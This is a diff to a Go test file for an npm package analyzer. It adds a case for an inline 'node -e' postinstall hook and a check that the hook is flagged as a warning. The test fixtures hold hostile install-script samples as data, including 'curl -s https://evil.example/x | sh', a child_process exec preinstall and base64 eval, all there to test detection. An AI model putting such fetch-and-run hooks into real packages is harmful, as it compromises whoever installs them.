@@ -55,6 +55,7 @@ func TestNpmAnalyzers(t *testing.T) {
 		{"clean", map[string]string{"package.json": manifestWith(`,"scripts":{"test":"curl http://x | sh"}`), "index.js": "module.exports = 1"}, ""},
 		{"curl pipe sh", map[string]string{"package.json": manifestWith(`,"scripts":{"postinstall":"curl -s https://evil.example/x | sh"}`)}, "AL001"},
 		{"node -e", map[string]string{"package.json": manifestWith(`,"scripts":{"preinstall":"node -e \"require('child_process').exec(process.argv)\""}`)}, "AL001"},
+		{"core-js style postinstall", map[string]string{"package.json": manifestWith(`,"scripts":{"postinstall":"node -e \"try{require('./postinstall')}catch(e){}\""}`), "postinstall.js": "console.log('thanks')"}, "AL001"},
 		{"obfuscated hook", map[string]string{"package.json": manifestWith(`,"scripts":{"postinstall":"node ./scripts/setup.js"}`), "scripts/setup.js": obfuscated}, "AL002"},
 		{"eval of base64", map[string]string{"package.json": manifestWith(`,"scripts":{"install":"node install.js"}`), "install.js": "const p = 1;\neval(atob('Y29uc29sZS5sb2coMSk='))\n"}, "AL002"},
 		{"hex escapes", map[string]string{"package.json": manifestWith(`,"scripts":{"install":"node install.js"}`), "install.js": strings.Repeat(`"\x68\x65\x6c\x6c\x6f"+`, 200)}, "AL002"},
@@ -74,6 +75,9 @@ func TestNpmAnalyzers(t *testing.T) {
 			fs, err := Npm(Input{Dir: pkg(t, c.files), Name: "victim", Version: "1.0.0", InstallPath: "node_modules/victim"})
 			if err != nil {
 				t.Fatal(err)
+			}
+			if c.name == "core-js style postinstall" && fs[0].Severity != Warning {
+				t.Errorf("inline node -e is a warning, got %v", fs[0].Severity)
 			}
 			if got := rules(fs); got != c.want {
 				t.Fatalf("rules = %q, want %q: %v", got, c.want, fs)
